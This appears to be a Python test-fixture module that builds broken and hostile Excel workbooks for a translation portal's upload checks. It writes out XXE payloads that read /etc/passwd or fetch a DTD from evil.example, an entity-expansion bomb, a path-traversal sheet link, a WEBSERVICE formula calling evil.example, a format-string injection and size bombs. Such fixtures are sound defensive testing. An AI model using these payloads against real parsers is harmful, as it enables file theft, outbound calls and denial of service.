"""Excel workbooks that somebody made to break the portal: packed, cut, computed, without end."""

import struct
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any
from xml.sax.saxutils import escape

from portal.catalog_files import FILE_LIMIT, FileFault
from portal.policy.catalog_rows import RowOutcome

_NAMES = "http://schemas.openxmlformats.org"
_WORKBOOK = (
    f'<workbook xmlns="{_NAMES}/spreadsheetml/2006/main" xmlns:r="{_NAMES}/officeDocument/2006/relationships">'
    '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_TYPE = f"{_NAMES}/officeDocument/2006/relationships/worksheet"
_BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_NET = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'
HEAD = ("block", "english", "translation")


def relations(target: str = "worksheets/sheet1.xml") -> str:
    """The list of the workbook's parts."""
    return (
        f'<Relationships xmlns="{_NAMES}/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_TYPE}" Target="{target}"/></Relationships>'
    )


def cells(*texts: str, number: int) -> str:
    """A row of texts in their places."""
    made = "".join(
        f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'
        for place, text in enumerate(texts)
    )
    return f'<row r="{number}">{made}</row>'


def sheet(*rows: str, before: str = "") -> str:
    """A sheet of rows, with what stands before its first element."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<worksheet xmlns="{_NAMES}/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    )


def packed(
    page: str | bytes, shared: str = "", listed: str = "", way: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A workbook with one sheet."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", way) as archive:
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", listed or relations())
        if shared:
            archive.writestr("xl/sharedStrings.xml", shared)
        archive.writestr("xl/worksheets/sheet1.xml", page)
    return out.getvalue()


def workbooks(hostile: Callable[..., Any], block: str, english: str, text: str) -> Iterator[Any]:
    """Each as a file of its own."""
    head, row = cells(*HEAD, number=1), cells(block, english, text, number=2)
    good = packed(sheet(head, row))
    for what, content, told in (
        *_broken(good, head, row), *_endless(head, row), *_rows(head, row, block, english, text),
    ):  # fmt: skip
        yield hostile(f"Excel: {what}", "vi.xlsx", content, told)


def _broken(good: bytes, head: str, row: str) -> Iterator[tuple[str, bytes, FileFault]]:
    no = FileFault.NOT_XLSX
    yield "no archive", b"PK\3\4 no archive", no
    yield "nothing", b"", no
    yield "cut off", good[: len(good) // 2], no
    yield "an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), no
    yield "an archive of something else", _archive({"a.txt": "x"}), no
    yield "XML cut off", packed(sheet(head, row)[:-40]), no
    yield "a bomb of entities", packed(sheet(head, row, before=_BOMB)), no
    yield "an entity from a file", packed(sheet(head, row, before=_FILE)), no
    yield "a document type from elsewhere", packed(sheet(head, row, before=_NET)), no
    shared = f'{_BOMB}<sst xmlns="{_NAMES}/spreadsheetml/2006/main"><si><t>&b;</t></si></sst>'
    yield "a bomb in the shared texts", packed(sheet(head, row), shared), no
    yield "a sheet outside", packed(sheet(head, row), listed=relations("../../../etc/passwd")), no
    yield "a sheet on the net", packed(sheet(head), listed=relations("http://evil.example/a")), no
    yield "a shared text that is not there", packed(sheet(head, _shared("7"))), no
    yield "a shared text before the first", packed(sheet(head, _shared("-1"))), no
    yield "half a pair", packed(sheet(head, row).replace("Xin", "Xin_xD800_")), no
    yield "another packing", packed(sheet(head, row), way=zipfile.ZIP_LZMA), no
    yield "a password", _encrypted(good), no
    yield "a wrong sum", good.replace(b"PK\1\2", b"PK\1\3"), no


def _endless(head: str, row: str) -> Iterator[tuple[str, bytes, FileFault]]:
    large = FileFault.TOO_LARGE
    yield "a bomb of blanks", packed(sheet(head, row) + " " * 200_000_000), large
    yield "a million empty cells", packed(sheet(head, f"<row>{'<c/>' * 1_000_000}</row>")), large
    yield (
        "a hundred thousand rows",
        packed(sheet(head, *["<row><c><v>1</v></c></row>"] * 90_000)),
        large,
    )
    yield "many parts", _archive({f"xl/{n}.xml": "" for n in range(300)}), large
    yield "too large", packed(sheet(head, row), way=zipfile.ZIP_STORED).ljust(FILE_LIMIT + 1), large
    text = f'<sst xmlns="{_NAMES}/spreadsheetml/2006/main"><si><t>{"a" * 1_000_000}</t></si></sst>'
    rows = [_shared("0")] * 20_000
    yield "one long text in every cell", packed(sheet(head, *rows), text), large


def _rows(
    head: str, row: str, block: str, english: str, text: str
) -> Iterator[tuple[str, bytes, FileFault | RowOutcome]]:
    formula = row.replace(f"<is><t>{escape(text)}</t></is>", "<f>1+1</f><v>2</v>").replace(
        'r="C2" t="inlineStr"', 'r="C2"'
    )
    yield "a formula", packed(sheet(head, formula)), RowOutcome.FORMULA
    loads = formula.replace("1+1", 'WEBSERVICE("http://evil.example")')
    yield "a formula that loads", packed(sheet(head, loads)), RowOutcome.FORMULA
    wrong = row.replace("inlineStr", "e").replace("<is><t>", "<v>").replace("</t></is>", "</v>")
    yield "an error in a cell", packed(sheet(head, wrong)), RowOutcome.FORMULA
    yield (
        "a damaged field",
        packed(sheet(head, cells(block, english, "Gọi {0.__class__}", number=2))),
        RowOutcome.DAMAGED,
    )
    far = row.replace('r="C2"', 'r="XFD1048576"')
    yield "a cell in the last corner", packed(sheet(head, far)), RowOutcome.EMPTY
    hidden = packed(sheet(head, row).replace("Xin", "Xin\u202e"))
    yield "an override", hidden, FileFault.HIDDEN_CHARACTER
    yield (
        "a NUL in its own spelling",
        packed(sheet(head, row).replace("Xin", "Xin_x0000_")),
        FileFault.HIDDEN_CHARACTER,
    )
    yield "no columns", packed(sheet(row)), FileFault.NO_COLUMNS
    yield "no rows", packed(sheet()), FileFault.NO_COLUMNS
    yield "a row twice", packed(sheet(head, row, row)), FileFault.TWICE


def _shared(number: str) -> str:
    return f'<row><c t="s"><v>{number}</v></c><c t="s"><v>{number}</v></c></row>'


def _archive(parts: dict[str, str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def _encrypted(good: bytes) -> bytes:
    """The same archive, saying of each part that it needs a password."""
    made, at = bytearray(good), good.find(b"PK\1\2")
    while at >= 0:
        flags = struct.unpack_from("<H", made, at + 8)[0]
        struct.pack_into("<H", made, at + 8, flags | 1)
        at = good.find(b"PK\1\2", at + 4)
    return bytes(made)
